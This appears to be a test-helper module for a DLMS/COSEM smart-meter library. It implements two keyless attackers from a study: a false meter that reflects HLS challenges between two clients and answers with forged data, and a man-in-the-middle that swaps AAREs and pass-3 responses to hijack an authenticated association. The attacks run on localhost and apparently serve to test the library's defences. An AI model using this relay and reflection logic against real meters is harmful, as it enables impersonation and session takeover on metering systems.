"""The attackers of the published study (requirements A-3 and A-4), who hold no key: they hand on what honest parties say."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from urllib.parse import urlsplit

from dlmskit.apdu import (
    Aare,
    Aarq,
    ActionResponseNormal,
    ActionResponseWithOptionalData,
    GetRequestNormal,
    GetResponseNormal,
    InitiateResponse,
    Rlre,
    decode_apdu,
)
from dlmskit.apdu.acse import AUTHENTICATION
from dlmskit.codec.ber import AuthenticationValue, Diagnostic
from dlmskit.codec.data import Data
from dlmskit.link.wrapper import HEADER_OCTETS, decode_header, encode_wrapper
from dlmskit.types.enums import AcseServiceUser

FORGED = Data.octet_string(b"what the attacker wants")
AARQ, RLRQ, ACTION_REQUEST, GET_REQUEST = 0x60, 0x62, 0xC3, 0xC0


class Line:
    """One connection of an attacker, APDU by APDU."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, client: int = 0) -> None:
        self._reader, self._writer = reader, writer
        self.client = client

    @classmethod
    async def to(cls, url: str, client: int) -> Line:
        """Connect to a meter as this client SAP."""
        parts = urlsplit(url)
        return cls(*await asyncio.open_connection(parts.hostname, parts.port), client)

    async def receive(self) -> bytes:
        """The next APDU; empty when there is none any more."""
        try:
            source, _, length = decode_header(await self._reader.readexactly(HEADER_OCTETS))
            self.client = self.client or source
            return await self._reader.readexactly(length)
        except (asyncio.IncompleteReadError, ConnectionError):
            return b""

    def as_client(self, apdu: bytes) -> None:
        """Send as the client."""
        self._writer.write(encode_wrapper(self.client, 1, apdu))

    def as_meter(self, apdu: bytes) -> None:
        """Send as the meter."""
        self._writer.write(encode_wrapper(1, self.client, apdu))

    async def ask(self, apdu: bytes) -> bytes:
        """Send as the client, and what is answered."""
        self.as_client(apdu)
        return await self.receive()

    def close(self) -> None:
        """Hang up."""
        self._writer.close()


class FalseMeter:
    """A-3: the meter of two clients with one secret, each of which solves the challenge of the other."""

    def __init__(self) -> None:
        self._waiting: list[tuple[Line, Aarq, asyncio.Future[tuple[Line, Aarq]]]] = []
        self._solved: dict[Line, asyncio.Future[bytes]] = {}
        self.requests: list[bytes] = []
        """What clients sent after passes 3 and 4."""

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One connection of a client. Whoever is not one of the two at once gets no answer."""
        line = Line(reader, writer)
        try:
            first = await line.receive()
            if first[:1] == bytes((AARQ,)) and Aarq.decode(first).calling_authentication_value is not None:
                await self._associate(line, Aarq.decode(first))
        finally:
            line.close()

    async def _associate(self, line: Line, aarq: Aarq) -> None:
        self._solved[line] = asyncio.get_running_loop().create_future()
        other, theirs = await self._meet(line, aarq)
        challenge = theirs.calling_authentication_value
        assert challenge is not None
        line.as_meter(
            Aare(
                application_context_name=aarq.application_context_name,
                result=0,
                result_source_diagnostic=Diagnostic(int(AcseServiceUser.AUTHENTICATION_REQUIRED)),
                responding_ap_title=theirs.calling_ap_title,
                responder_acse_requirements=AUTHENTICATION,
                mechanism_name=aarq.mechanism_name,
                responding_authentication_value=AuthenticationValue(challenge.octets),
                user_information=self._initiate_response(theirs),
            ).encode()
        )
        await self._passes_3_and_4(line, other)
        while request := await line.receive():
            self.requests.append(request)
            if request[0] == GET_REQUEST:
                line.as_meter(GetResponseNormal(GetRequestNormal.decode(request).invoke_id_and_priority, FORGED).encode())
            elif request[0] == RLRQ:
                line.as_meter(Rlre(reason=0).encode())

    async def _meet(self, line: Line, aarq: Aarq) -> tuple[Line, Aarq]:
        """Both must be there at the same time."""
        if self._waiting:
            other, theirs, future = self._waiting.pop()
            future.set_result((line, aarq))
            return other, theirs
        future = asyncio.get_running_loop().create_future()
        self._waiting.append((line, aarq, future))
        return await future

    @staticmethod
    def _initiate_response(theirs: Aarq) -> bytes:
        """In clear for who asked in clear; else all that he has: what the other client ciphered, to be taken for an answer."""
        asked = theirs.user_information or b""
        if asked[0] == 0x01:
            return InitiateResponse(
                negotiated_dlms_version_number=6, negotiated_conformance=0x1D, server_max_receive_pdu_size=1024, vaa_name=7
            ).encode()
        return b"\x28" + asked[1:] if asked[0] == 0x21 else asked

    async def _passes_3_and_4(self, line: Line, other: Line) -> None:
        request = await line.receive()
        if request[:1] != bytes((ACTION_REQUEST,)):
            self._solved[line].cancel()
            return
        pass_3 = decode_apdu(request)
        self._solved[line].set_result(pass_3.method_invocation_parameters.value)  # type: ignore[attr-defined]
        answer = ActionResponseWithOptionalData(0, Data.octet_string(await self._solved[other]))
        line.as_meter(ActionResponseNormal(pass_3.invoke_id_and_priority, answer).encode())  # type: ignore[attr-defined]


@asynccontextmanager
async def false_meter() -> AsyncIterator[tuple[str, FalseMeter]]:
    """An attacker at an address where clients expect their meter."""
    attacker = FalseMeter()
    async with await asyncio.start_server(attacker.serve, "127.0.0.1", 0) as server:
        yield f"tcp://127.0.0.1:{server.sockets[0].getsockname()[1]}", attacker


class Swapper:
    """A-4: associates at the same time as the honest client, as a copy of him, and swaps their AAREs and their passes 3."""

    def __init__(self, url: str) -> None:
        self._url = url
        self.own: Line | None = None
        """His association with the meter, once the honest client has solved its challenge."""
        self.pass_3 = self.pass_4 = b""
        """What the honest client said, and what the meter answered to the attacker for it."""

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One connection of the honest client."""
        line = Line(reader, writer)
        aarq = await line.receive()
        if self.own is not None or not aarq:
            line.close()
            return
        self.own = own = await Line.to(self._url, line.client)
        his = await Line.to(self._url, line.client)
        aare = await own.ask(aarq)
        await his.ask(aarq)
        line.as_meter(aare)  # swapped: the honest client gets the attacker's challenge
        self.pass_3 = pass_3 = await line.receive()
        self.pass_4 = await own.ask(pass_3)  # and the attacker's association the honest answer
        refused = await his.ask(pass_3) if pass_3 else b""
        line.as_meter(refused or b"\xd8\x01\x01")
        line.close()
        his.close()


@asynccontextmanager
async def swapper(url: str) -> AsyncIterator[tuple[str, Swapper]]:
    """An attacker between clients and the meter at ``url``."""
    attacker = Swapper(url)
    try:
        async with await asyncio.start_server(attacker.serve, "127.0.0.1", 0) as server:
            yield f"tcp://127.0.0.1:{server.sockets[0].getsockname()[1]}", attacker
    finally:
        if attacker.own is not None:
            attacker.own.close()
